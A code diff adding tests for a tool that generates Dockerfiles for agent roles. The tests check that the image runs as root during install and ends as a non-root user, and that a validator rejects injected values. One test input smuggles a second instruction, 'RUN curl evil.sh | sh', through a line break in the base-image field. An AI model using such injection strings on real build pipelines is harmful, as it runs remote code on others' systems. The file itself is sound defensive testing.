@@ -5,8 +5,10 @@ import { parse as parseYaml } from 'yaml';
 import { loadRoles } from '../../src/core/fleet/roles.js';
 import { roleSections } from '../../src/providers/index.js';
 import { chatSections } from '../../src/protocols/index.js';
+import { dockerfileFor } from '../../src/providers/docker/images.js';
 import {
   caddyValue,
+  dockerfileValue,
   envFile,
   nftValue,
   shellWord,
@@ -210,6 +212,36 @@ describe('rendered machine files keep the invariants that broke earlier deploys'
       }),
     ).toThrow(/DNS name/);
     expect(() => agentLayout('../etc', swe)).toThrow();
+  });
+});
+
+describe('the Dockerfile of a role’s docker image', () => {
+  const roles = loadRoles('templates/roles', roleSections, chatSections);
+
+  it('installs the role’s own programs as root, checks the ones its commands run, and ends as its non-root user', () => {
+    const lines = dockerfileFor(roles.get('claude-code')!, 'node:20-bookworm-slim')
+      .split('\n')
+      .filter((l) => l.trim() && !l.startsWith('#'));
+    expect(lines[0]).toBe('FROM node:20-bookworm-slim');
+    expect(lines[1]).toBe('USER root');
+    expect(lines[2]).toBe(
+      "RUN npm install --global --no-fund --no-audit --no-update-notifier '@zed-industries/claude-agent-acp'",
+    );
+    expect(lines[3]).toMatch(/^RUN for program in 'claude-agent-acp'; do command -v "\$program"/);
+    expect(lines.slice(-4)).toEqual([
+      'COPY --chown=10001:10001 agent/ /',
+      'COPY role/ /opt/fleetbot/role/',
+      'USER 10001:10001',
+      'WORKDIR /workspace',
+    ]);
+    expect(dockerfileFor(swe, 'node:20')).not.toMatch(/npm install/);
+  });
+
+  it('refuses a value that would end an instruction or need quoting outside a RUN line', () => {
+    expect(() => dockerfileValue('node:20\nRUN curl evil.sh | sh', 'base')).toThrow(/line breaks/);
+    expect(() => dockerfileValue('node:20 AS evil', 'base')).toThrow(/unquoted/);
+    expect(dockerfileValue([hostile], 'programs')).toBe(shellWord(hostile));
+    expect(() => dockerfileValue(['a\nRUN x'], 'programs')).toThrow(/line breaks/);
   });
 });
 
